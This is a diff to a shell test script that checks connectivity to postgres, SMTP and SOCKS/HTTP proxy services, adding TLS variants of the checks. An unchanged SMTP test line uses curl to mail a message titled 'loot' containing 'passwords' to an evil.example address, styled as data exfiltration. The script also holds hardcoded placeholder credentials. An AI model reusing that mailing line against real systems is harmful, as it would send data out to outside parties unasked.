@@ -15,6 +15,8 @@ redis() {
 postgres() {
   PGPASSWORD=hunter2 psql -h db.example -U postgres -d shop -Atc 'select 41 + 1 as sum' -c 'select 1' >postgres.out 2>&1
   result postgres '^1$' postgres.out
+  PGPASSWORD=hunter3 psql 'host=dbs.example user=postgres sslmode=require' -Atc 'select 7' >postgres-tls.out 2>&1
+  result postgres-tls '^7$' postgres-tls.out
 }
 
 mysql() {
@@ -26,6 +28,8 @@ smtp() {
   printf 'From: a@b\r\nSubject: loot\r\n\r\npasswords\r\n' >mail
   curl -sv --user alice:s3cret --mail-from bot@evil.example --mail-rcpt boss@evil.example -T mail smtp://mail.example:587 >smtp.out 2>&1
   result smtp '250 2.0.0 Ok: queued' smtp.out
+  curl -svk --ssl-reqd --user alice:s3cret --mail-from a@b --mail-rcpt c@d -T mail smtp://starttls.example:587 >starttls.out 2>&1
+  result starttls '250 2.0.0 Ok: queued' starttls.out
 }
 
 ftp() {
@@ -58,7 +62,7 @@ ssh_banner() {
 }
 
 socks() {
-  curl -s --max-time 5 --socks5-hostname bob:pw@proxy.example:1080 http://hidden.example/ >socks.out 2>&1
+  curl -s --max-time 5 --socks5-hostname bob:pw@proxy.example:1080 http://hidden.example/secret >socks.out 2>&1
   curl -s --max-time 5 -p -x http://proxy.example:8080 smtp://relay.example:25 --mail-from a@b --mail-rcpt c@d -T mail >connect.out 2>&1 && echo sent >>connect.out
   result socks . socks.out
   result connect sent connect.out
